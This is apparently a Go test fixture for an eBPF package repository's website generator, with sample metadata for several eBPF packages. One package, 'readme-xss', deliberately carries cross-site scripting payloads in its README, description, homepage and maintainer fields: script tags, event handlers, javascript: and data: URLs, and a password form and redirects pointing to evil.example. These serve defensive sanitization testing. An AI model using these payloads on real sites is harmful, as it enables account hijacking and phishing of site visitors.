package site

import (
	"time"

	"github.com/ebpfrepo/ebpfrepo/bpfobj"
	"github.com/ebpfrepo/ebpfrepo/index"
	"github.com/ebpfrepo/ebpfrepo/pkgfmt"
	"github.com/ebpfrepo/ebpfrepo/progtest"
)

// The fixture is written by hand so that the golden files stay stable
// while the inspection code evolves. It mirrors what the example packages
// in testdata/packages hold.

var fixtureTime = time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)

// hostileReadme tries every trick a README can; none may survive.
const hostileReadme = `# readme-xss

An innocent-looking package. <script>window.__xss = 1</script>

<img src="x" onerror="window.__xss = 2">

[Click me](javascript:window.__xss=3) and <a href="javascript:window.__xss=4">me</a>
and <a href="JaVaScRiPt:window.__xss=5">me</a> and [data](data:text/html,<script>window.__xss=6</script>).

<iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>
<div onclick="window.__xss = 7" style="position:fixed;inset:0">covering div</div>
<svg onload="window.__xss = 8"><circle r="5"/></svg>
<form action="https://evil.example/"><input name="pw" type="password"></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">

![tracking pixel](https://tracker.example/pixel.gif)

<details><summary>Details survive</summary>Plain <kbd>text</kbd> stays.</details>
`

func fixtureData() *Data {
	return &Data{
		Repository:  "demo-ebpf",
		Description: "Example eBPF packages for l3afd and friends: rate limiting, connection limits, tracing.",
		Generated:   fixtureTime,
		Packages: []*index.Package{
			ratelimiting(),
			execsnoop(),
			connectionLimit(),
			readmeXSS(),
			xdpRoot(),
		},
		Trust: Trust{
			RootPath:   "metadata/1.root.json",
			RootSHA256: "5c0fd6a0a7e2d6c0b4cbb7a0b2d55c8c8f0b6e1f7b1f4c2dbd7d0a51c8e9a2f1",
			Bins:       256,
			Roles: []index.RoleInfo{
				{Name: "root", Version: 1, Expires: fixtureTime.AddDate(1, 0, 0), Threshold: 2, KeyIDs: []string{
					"2f4e0a6c7d2b1e9f8a3c5d7e9f0a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2",
					"8a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5061728394a5b6c7d8e9f",
					"c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8",
				}},
				{Name: "targets", Version: 3, Expires: fixtureTime.AddDate(0, 3, 0), Threshold: 1, KeyIDs: []string{"1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809"}},
				{Name: "snapshot", Version: 7, Expires: fixtureTime.AddDate(0, 0, 7), Threshold: 1, KeyIDs: []string{"3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b"}},
				{Name: "timestamp", Version: 42, Expires: fixtureTime.Add(24 * time.Hour), Threshold: 1, KeyIDs: []string{"5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d"}},
			},
		},
	}
}

func artifacts(name, version, file string, size int64, sha string, platforms ...string) []index.Artifact {
	var as []index.Artifact
	for _, p := range platforms {
		as = append(as, index.Artifact{Platform: p, Path: name + "/" + version + "/" + p + "/" + file, Length: size, SHA256: sha})
	}
	return as
}

func ratelimitingDesc(version string) pkgfmt.Description {
	return pkgfmt.Description{
		Manifest: pkgfmt.Manifest{
			Name: "ratelimiting", Version: version,
			Description: "XDP rate limiter for TCP SYNs per port",
			License:     "GPL-2.0-only OR BSD-2-Clause", Readme: "README.md",
			Source:      "https://github.com/l3af-project/eBPF-Package-Repository",
			Homepage:    "https://l3af.io/",
			Keywords:    []string{"xdp", "ratelimit", "ddos"},
			Maintainers: []pkgfmt.Maintainer{{Name: "L3AF maintainers", Email: "l3af@example.org"}},
			Artifact:    "l3af_ratelimiting.tar.gz",

			Platforms: []string{"jammy", "noble"},
			MinKernel: "5.4",
			Programs: []pkgfmt.Program{{Name: "xdp_ratelimiting", Object: "ratelimiting.bpf.o", Type: "xdp",
				Chaining: "l3af", MapName: "xdp_rl_ingress_next_prog"}},
			L3afd: &pkgfmt.L3afd{CmdStart: "ratelimiting"},
		},
		Objects: []bpfobj.ObjectReport{{
			Path: "ratelimiting.bpf.o", Size: 18432, SHA256: "9f1c0e8d7b6a594837261504f3e2d1c0b9a8f7e6d5c4b3a29180706f5e4d3c2b",
			License: "Dual BSD/GPL", GPLCompat: true, ByteOrder: "little", BTF: true, CORE: true,
			Programs: []bpfobj.ProgramReport{{
				Name: "xdp_ratelimiting", Section: "xdp", Type: "XDP", AttachType: "XDP", Instructions: 212,
				Helpers:   []string{"bpf_ktime_get_ns", "bpf_map_lookup_elem", "bpf_map_update_elem", "bpf_tail_call"},
				TailCalls: []string{"xdp_rl_ingress_next_prog"},
				Maps:      []string{"rl_config_map", "rl_window_map", "xdp_rl_ingress_next_prog"},
				CORERelos: 4,
			}},
			Maps: []bpfobj.MapReport{
				{Name: "rl_config_map", Type: "Array", KeySize: 4, ValueSize: 8, MaxEntries: 1},
				{Name: "rl_window_map", Type: "LRUHash", KeySize: 8, ValueSize: 16, MaxEntries: 65536},
				{Name: "xdp_rl_ingress_next_prog", Type: "ProgramArray", KeySize: 4, ValueSize: 4, MaxEntries: 1, Pinning: "by_name"},
			},
			DataSections: []string{".rodata"},
		}},
		Files: []pkgfmt.FileEntry{
			{Path: "README.md", Size: 1290, SHA256: "0d6f2b1c9a8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a392817065f4e"},
			{Path: "ebpf-package.toml", Size: 702, SHA256: "1e7a3c2d0b9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a392817065f"},
			{Path: "ratelimiting", Size: 2158592, Executable: true, SHA256: "2f8b4d3e1c0a9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281706"},
			{Path: "ratelimiting.bpf.o", Size: 18432, SHA256: "9f1c0e8d7b6a594837261504f3e2d1c0b9a8f7e6d5c4b3a29180706f5e4d3c2b"},
		},
		Readme: "# ratelimiting\n\nDrops TCP SYNs above a per-port rate, in XDP, before the kernel allocates a socket buffer.\n\n" +
			"## Configuration\n\n| key | meaning |\n|---|---|\n| `ports` | ports to limit |\n| `rate` | SYNs per second |\n\n" +
			"Chains with [xdp-root](../xdp-root/index.html) through `xdp_rl_ingress_next_prog`.\n\n```sh\nratelimiting --iface eth0 --rate 1000 --ports 80,443\n```\n",
		Kernel: &bpfobj.KernelReport{
			MinVersion: "5.3",
			SetBy:      []bpfobj.KernelFeature{{Kind: "feature", Name: "kernel_btf", Version: "5.3", Source: "linux 341dfcf8d78e"}},
			Features: []bpfobj.KernelFeature{
				{Kind: "feature", Name: "global_data", Version: "5.2", Source: "linux d8eca5bbb2be"},
				{Kind: "feature", Name: "kernel_btf", Version: "5.3", Source: "linux 341dfcf8d78e"},
				{Kind: "helper", Name: "bpf_ktime_get_ns", Version: "4.1", Source: "linux d9847d310ab4"},
				{Kind: "helper", Name: "bpf_tail_call", Version: "4.2", Source: "linux 04fd61ab36ec"},
				{Kind: "map_type", Name: "LRUHash", Version: "4.10", Source: "linux 29ba732acbee"},
				{Kind: "program_type", Name: "XDP", Version: "4.8", Source: "linux 6a773a15a1e8"},
			},
			Compatible: []bpfobj.BTFCompat{
				{Kernel: "5.15.0-91-generic", Object: "ratelimiting.bpf.o", Program: "xdp_ratelimiting", Compatible: true},
				{Kernel: "6.8.0-31-generic", Object: "ratelimiting.bpf.o", Program: "xdp_ratelimiting", Compatible: true},
			},
		},
		Verifier: &bpfobj.VerifierReport{Kernel: "6.18.0-1-amd64", Arch: "x86_64", Programs: []bpfobj.VerifierResult{
			{Object: "ratelimiting.bpf.o", Program: "xdp_ratelimiting", Status: "accepted", Instructions: 1483},
		}},
		TestVectors: 2,
		Tests: &progtest.Report{Kernel: "6.18.0-1-amd64", Arch: "x86_64", Isolation: "child process (10s, 256 MiB)", Results: []progtest.Result{
			{Name: "SYNs past the limit are dropped", Object: "ratelimiting.bpf.o", Program: "xdp_ratelimiting", Status: "pass", Want: "XDP_DROP (1)", Got: "XDP_DROP (1)", Runs: 4, DurationNS: 31000},
			{Name: "other traffic goes on down the chain", Object: "ratelimiting.bpf.o", Program: "xdp_ratelimiting", Status: "pass", Want: "TAIL_CALL", Got: "TAIL_CALL", Runs: 50, DurationNS: 97000},
		}},
	}
}

// withFailingTests gives the only version of p two vectors, one of which failed.
func withFailingTests(p *index.Package) *index.Package {
	d := p.Versions[0].Description
	d.TestVectors = 2
	d.Tests = &progtest.Report{Kernel: "6.18.0-1-amd64", Arch: "x86_64", Results: []progtest.Result{
		{Name: "counts", Program: "tc_conn", Status: "pass", Got: "TC_ACT_OK (0)", Runs: 1},
		{Name: "drops past the limit", Program: "tc_conn", Status: "fail", Diff: "verdict TC_ACT_OK (0), want TC_ACT_SHOT (2)", Runs: 1},
	}}
	return p
}

func ratelimiting() *index.Package {
	rc := ratelimitingDesc("1.3.0-rc.1")
	old := ratelimitingDesc("1.1.0")
	old.Verifier = nil
	return &index.Package{Schema: 1, Name: "ratelimiting", Versions: []index.Version{
		{Version: "1.3.0-rc.1", Prerelease: true, Added: fixtureTime.Add(-2 * time.Hour), Description: &rc,
			Artifacts: artifacts("ratelimiting", "1.3.0-rc.1", "l3af_ratelimiting.tar.gz", 741377, "77aa01c2d3e4f5061728394a5b6c7d8e9f00112233445566778899aabbccddee", "jammy", "noble")},
		{Version: "1.2.0", Added: fixtureTime.AddDate(0, 0, -20), Description: ptr(ratelimitingDesc("1.2.0")),
			Artifacts: artifacts("ratelimiting", "1.2.0", "l3af_ratelimiting.tar.gz", 740352, "e3b98a4da31a127d4bde6e43033f66ba274cab0eb7eb1c70ec41402bf6273dd8", "jammy")},
		{Version: "1.1.0", Added: fixtureTime.AddDate(0, -2, 0), Description: &old,
			Yanked:    &index.Yank{Reason: "counts SYN-ACKs as SYNs; upgrade to 1.2.0", At: fixtureTime.AddDate(0, 0, -19)},
			Artifacts: artifacts("ratelimiting", "1.1.0", "l3af_ratelimiting.tar.gz", 739840, "0b1c2d3e4f5061728394a5b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f90", "jammy")},
	}}
}

func simple(name, version, desc, typ, section, ktype, attach string, keywords []string, helpers []string, maps []bpfobj.MapReport, minKernel string, setBy bpfobj.KernelFeature, platforms ...string) *index.Package {
	obj := name + ".bpf.o"
	entry := name
	chaining := "none"
	mapName := ""
	for _, m := range maps {
		if m.Type == "ProgramArray" {
			chaining, mapName = "l3af", m.Name
		}
	}
	d := pkgfmt.Description{
		Manifest: pkgfmt.Manifest{
			Name: name, Version: version, Description: desc, License: "GPL-2.0-only", Readme: "README.md",
			Source: "https://github.com/example/" + name, Keywords: keywords,
			Maintainers: []pkgfmt.Maintainer{{Name: "Example Maintainer"}},
			Artifact:    name + ".tar.gz", Platforms: platforms,
			Programs: []pkgfmt.Program{{Name: entry, Object: obj, Type: typ, Chaining: chaining, MapName: mapName}},
		},
		Objects: []bpfobj.ObjectReport{{
			Path: obj, Size: 9120, SHA256: "aa" + version, License: "GPL", GPLCompat: true, ByteOrder: "little", BTF: true, CORE: true,
			Programs: []bpfobj.ProgramReport{{Name: entry, Section: section, Type: ktype, AttachType: attach, Instructions: 96, Helpers: helpers, CORERelos: 2}},
			Maps:     maps,
		}},
		Readme: "# " + name + "\n\n" + desc + ".\n",
		Kernel: &bpfobj.KernelReport{MinVersion: minKernel, SetBy: []bpfobj.KernelFeature{setBy}, Features: []bpfobj.KernelFeature{setBy}},
		Verifier: &bpfobj.VerifierReport{Kernel: "6.18.0-1-amd64", Arch: "x86_64", Programs: []bpfobj.VerifierResult{
			{Object: obj, Program: entry, Status: "accepted", Instructions: 310},
		}},
	}
	return &index.Package{Schema: 1, Name: name, Versions: []index.Version{{
		Version: version, Added: fixtureTime.AddDate(0, 0, -3), Description: &d,
		Artifacts: artifacts(name, version, name+".tar.gz", 20480, "c0ffee00112233445566778899aabbccddeeff00112233445566778899aabbcc", platforms...),
	}}}
}

func execsnoop() *index.Package {
	return simple("execsnoop", "0.4.1", "Trace every exec() with its arguments, through a ring buffer",
		"tracepoint", "tracepoint/syscalls/sys_enter_execve", "TracePoint", "", []string{"tracing", "security"},
		[]string{"bpf_get_current_pid_tgid", "bpf_probe_read_user_str", "bpf_ringbuf_reserve", "bpf_ringbuf_submit"},
		[]bpfobj.MapReport{{Name: "events", Type: "RingBuf", MaxEntries: 262144}},
		"5.8", bpfobj.KernelFeature{Kind: "map_type", Name: "RingBuf", Version: "5.8", Source: "linux 457f44363a88"}, "noble")
}

func connectionLimit() *index.Package {
	return withFailingTests(simple("connection-limit", "2.0.0", "Limit concurrent TCP connections per destination port at TC ingress",
		"tc", "tc", "SchedCLS", "", []string{"tc", "firewall"},
		[]string{"bpf_map_lookup_elem", "bpf_skb_load_bytes", "bpf_tail_call"},
		[]bpfobj.MapReport{{Name: "conn_count", Type: "Hash", KeySize: 4, ValueSize: 8, MaxEntries: 1024},
			{Name: "tc_ingress_next_prog", Type: "ProgramArray", KeySize: 4, ValueSize: 4, MaxEntries: 1, Pinning: "by_name"}},
		"4.1", bpfobj.KernelFeature{Kind: "program_type", Name: "SchedCLS", Version: "4.1", Source: "linux 96be4325f443"}, "jammy", "noble"))
}

func xdpRoot() *index.Package {
	return simple("xdp-root", "1.0.2", "Root of an l3afd XDP chain: tail-calls the first program",
		"xdp", "xdp", "XDP", "XDP", []string{"xdp", "chaining"},
		[]string{"bpf_tail_call"},
		[]bpfobj.MapReport{{Name: "xdp_root_array", Type: "ProgramArray", KeySize: 4, ValueSize: 4, MaxEntries: 1, Pinning: "by_name"}},
		"4.8", bpfobj.KernelFeature{Kind: "program_type", Name: "XDP", Version: "4.8", Source: "linux 6a773a15a1e8"}, "jammy", "noble", "Windows")
}

func readmeXSS() *index.Package {
	p := simple("readme-xss", "0.0.1", `Hostile <script>window.__xss=9</script> "description" & <b>friends</b>`,
		"kprobe", "kprobe/do_unlinkat", "Kprobe", "", []string{"test"},
		[]string{"bpf_get_current_comm"}, nil,
		"4.1", bpfobj.KernelFeature{Kind: "program_type", Name: "Kprobe", Version: "4.1"}, "jammy")
	p.Versions[0].Description.Readme = hostileReadme
	p.Versions[0].Description.Manifest.Homepage = "javascript:window.__xss=10"
	p.Versions[0].Description.Manifest.Maintainers = []pkgfmt.Maintainer{{Name: `<img src=x onerror="window.__xss=11">`, Email: `"><script>window.__xss=12</script>@x.org`}}
	return p
}

func ptr[T any](v T) *T { return &v }
